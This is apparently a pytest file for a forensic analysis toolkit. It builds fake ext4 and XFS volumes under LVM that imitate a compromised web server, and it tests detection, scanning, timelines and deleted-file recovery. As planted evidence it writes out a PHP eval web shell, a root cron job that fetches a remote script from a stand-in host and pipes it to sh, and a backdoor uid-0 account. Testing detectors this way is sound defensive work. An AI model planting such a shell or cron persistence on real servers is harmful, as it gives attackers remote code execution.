# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A compromised server on LVM: findings, scanners and deleted files of ext4 and XFS in logical volumes.

Nothing is mounted and nothing activated: no root is needed.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from lab.evidence import xfs
from lab.evidence.ext4 import Ext4Writer
from lab.evidence.lvm import MIB, Segment, Volume, VolumeGroup
from lab.evidence.run import sparse_file
from lab.evidence.tree import SECOND, Tree, at

NEEDED = ("fls", "yara", "clamscan", "mke2fs", "debugfs", "mkfs.xfs", "xfs_db")
pytestmark = pytest.mark.skipif(not all(map(shutil.which, NEEDED)), reason=f"needs {', '.join(NEEDED)}")
IMAGE = Path(__file__).resolve().parents[3] / "roles/toolbox/files/image"
WHEN = at("2026-09-01 12:00:00")
HIT = (IMAGE / "samples/hit.txt").read_text()
GONE = "what the intruder left and removed again\n" * 30
SHELL = '<?php @eval($_POST["x"]); ?>'
STEM = "vol-0123456789abcdef0p3"


def server() -> Tree:
    tree = Tree()
    for folder in ("/", "/etc", "/etc/cron.d", "/opt", "/var", "/var/www", "/var/www/html", "/var/www/html/uploads",
                   "/lost+found"):
        tree.folder(folder, b=WHEN)
    tree.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nsync2:x:0:0::/opt:/bin/bash\n", m=WHEN)
    tree.file("/etc/cron.d/sys", "* * * * * root curl -s http://192.0.2.9/a.sh | sh\n", m=WHEN)
    tree.file("/opt/hit.exe", HIT, m=WHEN)
    tree.file("/opt/before1970", "old", m=at("1960-01-01 00:00:00"))
    tree.file("/var/www/html/uploads/a.php", SHELL, m=WHEN)
    tree.link("/var/www/current", "html", b=WHEN)
    return tree


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    pytest.importorskip("dissect.volume", reason="dissect is not installed")
    from ansible_collections.dfir.aws.plugins.module_utils.forensics import analyze, scan
    from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Artifacts, Evidence, Host, Partition

    folder = tmp_path_factory.mktemp("lvm")
    for name in ("work", "ext4-work", "xfs-work", "scratch"):
        (folder / name).mkdir()
    tree = server()
    tree.file("/opt/gone.txt", GONE, m=WHEN)
    tree.delete("/opt/gone.txt", WHEN)
    tree.settle()
    Ext4Writer(folder / "ext4", folder / "ext4-work", WHEN // SECOND).make(
        tree, 64 * MIB, "7e57d15c-0000-4000-8000-000000000001", "root")
    tree = server()
    tree.settle()
    xfs.make(folder / "xfs", folder / "xfs-work", tree, 320 * MIB, "7e57d15c-0000-4000-8000-000000000002", "srv")
    disk = folder / "disk"
    sparse_file(disk, 480 * MIB)
    VolumeGroup("web", [disk], [
        Volume("root", [Segment(16, [(0, 90)])], folder / "ext4"),
        Volume("srv", [Segment(40, [(0, 40)]), Segment(40, [(0, 0)])], folder / "xfs")]).write()
    share = folder / "share"
    shutil.copytree(IMAGE / "rules", share / "rules")
    patch = pytest.MonkeyPatch()
    patch.setattr(scan, "SHARE", share)
    patch.setattr(scan, "BATCH", 100)  # bytes: nearly every file is a batch of its own
    steps = tuple(step for step in analyze.STEP_ORDER if step != "plaso")
    partition = Partition(3, str(disk), "LVM2_member", "lvm", disk.stat().st_size, False, None, None, None)
    before = hashlib.sha256(disk.read_bytes()).hexdigest()
    try:
        complete = analyze.analyze(analyze.Settings(Host((Evidence("vol-0123456789abcdef0", "", 1, (partition,)),)),
                                                    Artifacts(folder / "out"), folder / "scratch", steps=steps))
    finally:
        patch.undo()
    assert hashlib.sha256(disk.read_bytes()).hexdigest() == before
    assert not [path for path in (folder / "scratch").iterdir() if path.is_dir()], "copies are gone"
    out = folder / "out"
    return {"complete": complete, "log": (out / "analysis.log").read_text(), **{
        name: {kind: json.loads((out / f"{STEM}.web-{name}.{kind}.json").read_text())
               for kind in ("findings", "yara", "clamav", "deleted")}
        | {"body": [line.split("|") for line in (out / f"{STEM}.web-{name}.bodyfile").read_text().splitlines()]}
        for name in ("root", "srv")}}


def test_every_step_of_every_logical_volume_is_done(run: dict[str, Any]) -> None:
    assert run["complete"], run["log"]


@pytest.mark.parametrize("name", ["root", "srv"])
def test_findings_are_those_of_a_mounted_server(run: dict[str, Any], name: str) -> None:
    found = {(item["kind"], item["path"]) for item in run[name]["findings"]}
    assert ("web_shell", "/var/www/html/uploads/a.php") in found, found
    assert any(path == "/etc/cron.d/sys" for _kind, path in found)
    assert any(path == "/etc/passwd" for _kind, path in found)
    shell = next(item for item in run[name]["findings"] if item["kind"] == "web_shell")
    assert shell["times"]["m"].startswith("2026-09-01T12:00:00")


@pytest.mark.parametrize("name", ["root", "srv"])
@pytest.mark.parametrize("scanner", ["yara", "clamav"])
def test_scanners_look_at_every_file_batch_after_batch(run: dict[str, Any], name: str, scanner: str) -> None:
    [hit] = [item for item in run[name][scanner]["hits"] if item["path"] == "/opt/hit.exe"]
    assert hit["sha256"] == hashlib.sha256(HIT.encode()).hexdigest()
    assert run[name][scanner]["files"] == 5 and run[name][scanner]["skipped"] == 0


@pytest.mark.parametrize("name", ["root", "srv"])
def test_the_timeline_has_every_name_and_times_before_1970(run: dict[str, Any], name: str) -> None:
    times = {columns[1]: int(columns[8]) for columns in run[name]["body"]}
    assert times["/opt/hit.exe"] == WHEN // SECOND
    assert times["/opt/before1970"] == at("1960-01-01 00:00:00") // SECOND


def test_deleted_files_of_an_ext4_volume_in_one_piece_come_back(run: dict[str, Any]) -> None:
    listed = run["root"]["deleted"]
    assert listed["supported"]
    assert hashlib.sha256(GONE.encode()).hexdigest() in {item["sha256"] for item in listed["files"]}
